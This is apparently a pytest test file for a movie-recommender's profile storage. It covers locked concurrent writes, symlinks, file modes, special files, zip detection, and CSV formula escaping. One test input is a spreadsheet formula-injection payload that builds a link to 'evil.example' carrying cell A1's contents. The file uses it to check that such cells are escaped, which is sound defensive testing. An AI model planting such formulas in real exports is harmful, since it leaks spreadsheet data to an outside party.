"""A person's files: changed under a lock, read-change-replace, regular files only, links
followed, modes kept, read-only refused, leftovers swept, spreadsheets kept from running cells."""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import stat
import zipfile
from pathlib import Path

import pytest

from tui_recsys.data import user_files
from tui_recsys.data.profile_file import Profile, Rated, load_profile, profile_lock
from tui_recsys.data.spreadsheet import plain_cell, safe_cell
from tui_recsys.errors import DataError, NotOurs

PAIRS = 100


def _rate(path: Path, movie: int, start: multiprocessing.synchronize.Event) -> None:
    """One `rate` as the commands do it: read, change and replace, under the lock."""
    start.wait()
    with profile_lock(path):
        profile = load_profile(path)
        profile.rate(Rated(movie, None, f"Film {movie}", 2000, 4.0))
        profile.save()


def _run_at_once(path: Path, movies: range) -> None:
    context = multiprocessing.get_context("fork")
    start = context.Event()
    workers = [context.Process(target=_rate, args=(path, movie, start)) for movie in movies]
    for worker in workers:
        worker.start()
    start.set()
    for worker in workers:
        worker.join(60)
        assert worker.exitcode == 0


def test_a_hundred_pairs_of_ratings_at_once_keep_every_one(tmp_path: Path):
    path = tmp_path / "profile.csv"
    _run_at_once(path, range(1, 2 * PAIRS + 1))
    assert len(load_profile(path)) == 2 * PAIRS
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_without_the_lock_ratings_are_lost(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """What the lock prevents, shown: the same run with it taken away loses ratings (the
    forked workers inherit the patch)."""
    monkeypatch.setattr(user_files, "locked", lambda *_: contextlib.nullcontext())
    path = tmp_path / "profile.csv"
    _run_at_once(path, range(1, 2 * PAIRS + 1))
    assert len(load_profile(path)) < 2 * PAIRS


def _profile(path: Path) -> Profile:
    profile = Profile(path)
    profile.rate(Rated(1, 862, "Toy Story", 1995, 4.0))
    return profile


def test_a_linked_profile_is_saved_through_its_link_with_its_mode(tmp_path: Path):
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    real = dotfiles / "profile.csv"
    _profile(real).save()
    real.chmod(0o640)
    link = tmp_path / "profile.csv"
    link.symlink_to(real)
    _profile(link).save()
    assert link.is_symlink() and load_profile(real).find(1, None) is not None
    assert stat.S_IMODE(real.stat().st_mode) == 0o640


def test_a_read_only_profile_is_refused_and_kept(tmp_path: Path):
    path = tmp_path / "profile.csv"
    path.write_text("movielens_id,tmdb_id,title,year,rating,rated_at\n")
    path.chmod(0o444)  # refused by its mode, also for root, whom access() would let write
    with pytest.raises(DataError, match="is read-only"):
        _profile(path).save()
    assert len(load_profile(path)) == 0


def test_only_regular_files_are_read_or_replaced(tmp_path: Path):
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    with pytest.raises(DataError, match="is a FIFO, not a file"):
        load_profile(fifo)  # opened without waiting: no hang
    with pytest.raises(DataError, match="is a FIFO, not a file"):
        _profile(fifo).save()
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    with pytest.raises(DataError, match="is a folder, not a file"):
        load_profile(tmp_path)
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # /dev/null's numbers
    except PermissionError:
        pytest.skip("making a device needs root")
    with pytest.raises(DataError, match="is a device, not a file"):
        _profile(device).save()
    assert stat.S_ISCHR(device.lstat().st_mode)


def test_a_byte_order_mark_is_read_and_a_huge_file_refused(tmp_path: Path):
    path = tmp_path / "profile.csv"
    path.write_bytes(b"\xef\xbb\xbfmovielens_id,tmdb_id,title,year,rating,rated_at\n"
                     b"1,862,Toy Story,1995,4,\n")  # Excel's "CSV UTF-8"
    assert load_profile(path).find(1, None) is not None
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as out:
        out.truncate(user_files.MAX_BYTES + 1)
    with pytest.raises(DataError, match="more than your profile could be"):
        load_profile(huge)


def test_a_killed_writers_leftover_is_swept_and_a_live_ones_kept(tmp_path: Path):
    dead = tmp_path / ".tui-recsys-999999999-abc123.tmp"  # no such process
    alive = tmp_path / f".tui-recsys-{os.getpid()}-def456.tmp"
    theirs = tmp_path / ".tui-recsys-notes.tmp"
    for path in (dead, alive, theirs):
        path.write_text("x")
    _profile(tmp_path / "profile.csv").save()
    assert not dead.exists() and alive.exists() and theirs.exists()


def test_a_long_profile_name_saves(tmp_path: Path):
    path = tmp_path / ("p" * 250 + ".csv")
    with profile_lock(path):
        _profile(path).save()
    assert len(load_profile(path)) == 1


def test_ids_beyond_int64_are_one_line(tmp_path: Path):
    path = tmp_path / "profile.csv"
    path.write_text("movielens_id,tmdb_id,title,year,rating,rated_at\n"
                    "9223372036854775808,,Big,2000,4,\n")
    with pytest.raises(DataError, match="row 2: movielens_id '9223372036854775808' is too "
                                        "large"):
        load_profile(path)


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1",
                                  "-30-", "@SUM(A1)", "\tx", "'=quoted", "'plain", "Plain"])
def test_cells_are_safe_in_a_spreadsheet_and_read_back_unchanged(cell: str):
    written = safe_cell(cell)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain_cell(written) == cell


def test_a_profile_with_a_formula_title_round_trips(tmp_path: Path):
    path = tmp_path / "profile.csv"
    profile = Profile(path)
    profile.rate(Rated(1, None, "=HYPERLINK(\"x\")", 2000, 4.0))
    profile.save()
    assert "'=HYPERLINK" in path.read_text()
    assert load_profile(path).find(1, None).title == "=HYPERLINK(\"x\")"


def test_a_zip_named_as_your_profile_or_marks_is_said_with_the_import_that_brings_it(
        tmp_path: Path):
    """Letterboxd's whole export given as the profile was "cannot be read as UTF-8 text; save
    it as UTF-8": it is said to be a zip, with `tui-recsys import`, and left as it was."""
    from tui_recsys.data.marks_file import load_marks

    export = tmp_path / "letterboxd-sam-2026-12-01-09-30-utc.zip"
    with zipfile.ZipFile(export, "w") as archive:
        archive.writestr("ratings.csv", "Date,Name,Year,Letterboxd URI,Rating\n")
    before = export.read_bytes()
    for load in (load_profile, load_marks):
        with pytest.raises(NotOurs, match=r"is a zip: not your (profile|marks); if it is "
                                          r"Letterboxd's export, `tui-recsys import .*` "
                                          r"brings it in"):
            load(export)
    assert export.read_bytes() == before and sorted(tmp_path.iterdir()) == [export]


def test_a_zip_cut_short_is_said_to_be_a_zip_not_read_as_a_profile(tmp_path: Path):
    """A download cut short keeps the zip's first bytes and nothing a zip reader can find: it
    was read as text ("first row must be ..."), or "cannot be read as UTF-8"."""
    from tui_recsys.data.marks_file import load_marks

    whole = tmp_path / "whole.zip"
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("ratings.csv", "Date,Name,Year,Letterboxd URI,Rating\n" * 50)
    cut = tmp_path / "letterboxd-sam.zip"
    cut.write_bytes(whole.read_bytes()[:40])
    unnamed = tmp_path / "export"
    unnamed.write_bytes(b"PK\x03\x04" + bytes(range(200)))
    for path in (cut, unnamed):
        for load in (load_profile, load_marks):
            with pytest.raises(NotOurs, match="is a zip: not your"):
                load(path)
    assert sorted(tmp_path.iterdir()) == [unnamed, cut, whole]  # no copy kept of either


def test_a_file_saved_over_is_seen_changed_once_whoever_read_it_meanwhile(tmp_path: Path):
    """A friend's newer export written over the old: the watch must see it even where a list
    drawn meanwhile already read the new file (the details it did not draw stayed old)."""
    path = tmp_path / "sam.csv"
    path.write_text("one\n")
    read = user_files.FreshRead[str](path, Path.read_text)
    assert read() == "one\n" and not read.changed()
    path.write_text("one\ntwo\n")
    assert read() == "one\ntwo\n"  # read anew
    assert read.changed() and not read.changed()  # and seen changed, once
    path.unlink()
    assert read.changed() and not read.changed()  # gone is a change too
